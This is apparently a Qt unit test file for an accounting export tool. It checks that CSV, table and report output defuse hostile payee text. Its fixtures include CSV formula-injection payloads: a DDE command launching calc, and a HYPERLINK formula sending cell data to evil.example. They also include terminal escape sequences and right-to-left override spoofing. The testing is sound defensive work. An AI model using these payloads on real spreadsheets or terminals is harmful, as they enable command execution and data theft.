// Text from outside (payees, numbers, messages, company names) in what the
// runs print and write: the preview's table and CSV against golden files,
// and the run report of `runs --show`, whose columns a TAB must not shift.
// A spreadsheet evaluates nothing of it, a terminal acts on none of it.
#include "TestSupport.h"
#include "base/vlxTextUtils.h"
#include "runs/LedgerReport.h"
#include "runs/RunPreview.h"

#include <QDir>
#include <QtTest>

using namespace Qt::StringLiterals;

namespace {

// What a terminal would act on: control characters but TAB and LF, and the
// bidirectional controls.
bool HasRawControl(const QString& text) {
    return std::any_of(text.cbegin(), text.cend(), [](QChar c) {
        return (IsControlChar(c) && c != u'\t' && c != u'\n') || IsBidiControlChar(c);
    });
}

TExportNote Note(int key, const QString& number, const QString& payee, qint64 cents,
                 const QString& message = QString()) {
    TExportNote note = ExportNote(key, lekCheck, number, QDate(2024, 3, 8), payee,
                                  Currency::FromRaw(cents * 100), u"Payroll Checking"_s);
    note.Outcome = loWouldAdd;
    note.Message = message;
    return note;
}

// An agency report's payees as an attacker writes them.
TRunPreview HostilePreview() {
    TRunPreview preview;
    preview.RunName = u"Orvane Agency Checks Export"_s;
    preview.Target.CompanyName = u" =cmd|' /C calc'!A0"_s;
    preview.Target.CompanyFile = u"/books/harbor.qbw"_s;
    preview.Items = {
        Note(1, u"2001"_s, u"-2+3+HYPERLINK(\"http://evil.example/?d=\"&A1,\"Refund\")"_s, 200),
        Note(2, u"2002"_s, u"=1+1"_s, 300),
        Note(3, u"2003"_s, u"@SUM(A1:A9)"_s, 400),
        Note(4, u"2004"_s, u"\x1b[31mInternal Revenue Service\x1b[0m\x9b"_s, 500),
        Note(5, u"2005"_s, u"\u202eexe.ecivreS"_s, 600),
        Note(6, u"-5"_s, u"State of Ohio"_s, -12550, u"\tdetail\r\nsecond line"_s),
    };
    return preview;
}

} // namespace

class TestHostileText : public QObject {
    Q_OBJECT
private Q_SLOTS:
    void previewCsvEvaluatesNothing();
    void previewTableActsOnNothing();
    void runReportKeepsItsColumns_data();
    void runReportKeepsItsColumns();
};

void TestHostileText::previewCsvEvaluatesNothing() {
    const QString csv = PreviewCsv({HostilePreview()});
    QCOMPARE(csv, QString::fromUtf8(
                      testsupport::ReadFile(testsupport::DataPath(u"runs/hostile_preview.csv"_s))));
}

void TestHostileText::previewTableActsOnNothing() {
    const QString table = FormatPreviewTable({HostilePreview()});
    QVERIFY(!HasRawControl(table));
    // The table names the company file as the platform writes paths.
    QCOMPARE(table, QString::fromUtf8(
                        testsupport::ReadFile(testsupport::DataPath(u"runs/hostile_preview.txt"_s)))
                        .replace(u"/books/harbor.qbw"_s,
                                 QDir::toNativeSeparators(u"/books/harbor.qbw"_s)));
}

void TestHostileText::runReportKeepsItsColumns_data() {
    QTest::addColumn<QString>("number");
    QTest::addColumn<QString>("payee");
    QTest::addColumn<QString>("message");
    QTest::newRow("TAB in a message") << "1001"
                                      << "Ann Lee"
                                      << "failed:\tcheck the account";
    QTest::newRow("line break in a payee") << "1001"
                                           << "Ann\r\nLee"
                                           << "";
    QTest::newRow("ESC in a number") << "10\x1b[2J01"
                                     << "Ann Lee"
                                     << "";
    QTest::newRow("right-to-left override in a payee")
        << "1001" << QStringLiteral("\u202eeeL nnA") << "";
}

void TestHostileText::runReportKeepsItsColumns() {
    QFETCH(QString, number);
    QFETCH(QString, payee);
    QFETCH(QString, message);
    TLedgerRun run;
    run.Id = u"6c89c515-0000-4000-8000-000000000001"_s;
    run.Message = message;
    TLedgerRecord record;
    record.Seq = 1;
    record.Number = number;
    record.Date = QDate(2024, 3, 8);
    record.Payee = payee;
    record.Amount = Currency::FromUnits(2);
    record.Outcome = loFailed;
    record.Message = message;
    const QString report = LedgerRunReport(run, {record});
    QVERIFY2(!HasRawControl(report), qPrintable(report));
    const QStringList lines = report.split(u'\n', Qt::SkipEmptyParts);
    QCOMPARE(lines.last().count(u'\t'), lines[lines.size() - 2].count(u'\t'));
    QCOMPARE(lines.last().section(u'\t', 4, 4), EscapeControlCharsInLine(payee));
    QVERIFY(!HasRawControl(LedgerRunLine(run)));
}

QTEST_GUILESS_MAIN(TestHostileText)
#include "tst_hostiletext.moc"
